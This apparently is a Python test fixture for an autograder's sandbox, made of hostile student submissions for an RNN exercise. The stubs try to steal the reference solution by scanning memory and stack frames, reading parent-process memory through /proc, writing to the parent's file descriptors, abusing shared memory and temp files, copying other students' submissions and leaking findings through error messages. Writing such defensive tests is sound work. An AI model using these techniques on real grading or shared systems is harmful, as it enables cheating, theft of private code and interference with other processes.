"""Stubs that try to learn the solution, not to earn points: they try to leak what they find through
the messages that students see.
"""

from grading.hostile import EVERYTHING, RNN_LAYERS, hostile, solved, unsolved, zipped

# What a student's page must never contain: pieces of the reference's code
TELLTALES = ("prev_h @ Wh", "np.add.at", "np.tanh(a", "1 - next_h**2", "co_code", "expected [")

FINDS = '''
import gc, glob, os, sys, types

def source_of(function):
    import inspect
    try:
        return inspect.getsource(function)
    except Exception:
        code = getattr(function, "__code__", None)
        return f"{code.co_names} {code.co_consts} {code.co_code.hex()}" if code else ""

def others():
    """Functions of exercises that are not ours, wherever they hide."""
    found = []
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing.__name__ in WANTED:
            if thing.__code__ not in OURS and "Q1" not in repr(thing.__code__.co_consts):
                found.append(f"{thing.__name__}: {source_of(thing)} {thing.__closure__}")
    return found

def texts():
    """Source text in variables of all frames up to the server's."""
    frame, found = sys._getframe(), []
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if isinstance(value, (str, bytes)) and "np.tanh(a" in str(value) and value is not ME:
                found.append(str(value))
        frame = frame.f_back
    return found

def left():
    found = []
    for place in PLACES:
        for path in glob.glob(f"{place}/*.txt"):
            with open(path) as file:
                found.append(file.read())
    return found

PLACES = ["/tmp", "/dev/shm", "/var/tmp", "/run/lock", "/dev", "/box", "."]
'''


def telling(look):
    """Stubs whose error message is what they have found.

    Inputs:
    - look: Source of a function `look()` that returns a list of texts
    """
    code = f"""{FINDS}
{look}
def tell(*arguments, **named):
    found = left() + look()
    for place in PLACES:
        try:
            with open(place + "/found.txt", "w") as file:
                file.write(" ".join(found) or "np.tanh(a: left by an earlier task")
        except OSError:
            pass
    raise ValueError(" ".join(found)[:400])

ME = ""
WANTED = [name for name in list(globals()) if name.startswith(("rnn_", "lstm_", "word_", "gram"))]
for name in WANTED: globals()[name] = tell
OURS = [tell.__code__]
"""
    return zipped(unsolved(code))


@hostile(*EVERYTHING)
def source_of_lent_functions():
    """It looks in memory and frames for the code of the functions that replace its own."""
    return telling("def look(): return others() + texts()\n")


@hostile(*EVERYTHING)
def message_to_a_later_task():
    """It writes what it has found wherever it can, and reports it in a later exercise."""
    return telling("def look(): return []\n")


@hostile(*EVERYTHING)
def queue_that_outlives_its_task():
    """It leaves messages in System V's and POSIX's queues and shared memory, which belong to no
    process.
    """
    return telling(
        """
def look():
    import ctypes
    libc, found = ctypes.CDLL(None, use_errno=True), []
    for key in (4711, 4712):
        number = libc.shmget(key, 4096, 0o1666)
        if number >= 0:
            libc.shmat.restype = ctypes.c_void_p
            where = libc.shmat(number, None, 0)
            found.append(ctypes.string_at(where).decode())
            ctypes.memmove(where, b"np.tanh(a stays", 15)
    return found
"""
    )


@hostile(*EVERYTHING)
def memory_of_the_server():
    """It opens the memory and the pipes of its parent process."""
    return telling(
        """
def look():
    found = []
    for pid in (os.getppid(), 1):
        try:
            with open(f"/proc/{pid}/maps") as maps:
                ranges = [line.split()[0] for line in maps if " rw-p " in line]
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for part in ranges:
                    begin, end = (int(n, 16) for n in part.split("-"))
                    memory.seek(begin)
                    data = memory.read(min(end - begin, 1 << 22))
                    place = data.find(b"np.tanh(a")
                    if place >= 0: found.append(data[place : place + 200].decode("latin-1"))
            for fd in os.listdir(f"/proc/{pid}/fd"):
                os.write(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY), b"x" * 64)
        except OSError:
            continue
    return found
"""
    )


@hostile(*EVERYTHING)
def other_students_trees():
    """It looks for other submissions being graded, to copy their code."""
    return telling(
        """
def look():
    found = []
    for path in glob.glob("/tmp/grading-*/tree/deeplearning/rnn_layers.py"):
        try:
            with open(path) as file: found.append(file.read())
        except OSError:
            pass
    return found
"""
    )


@hostile("rnn_forward", "rnn_backward")
def questions_to_the_grader():
    """It calls the lent functions' channel for other exercises, with huge and odd arguments and
    without end; two exercises are wrong so that functions are lent.
    """
    files = solved()
    files[RNN_LAYERS] += """

def ask_for_more():
    import gc
    for talk in [o for o in gc.get_objects() if type(o).__name__ == "_Conversation"]:
        for name in ("rnn_forward", "rnn_backward", "lstm_backward", "__class__", "eval"):
            for values in ([], [np.zeros((1, 1, 1))] * 5, [np.zeros(10**6)] * 5, ["x" * 10**6]):
                try:
                    return talk.ask(name, values, {})
                except Exception:
                    pass

def rnn_forward(*arguments, **named):
    return ask_for_more() or (arguments[0] * 0, None)

def rnn_backward(*arguments):
    return ask_for_more() or tuple(np.zeros(1) for _ in range(5))
"""
    return zipped(files)
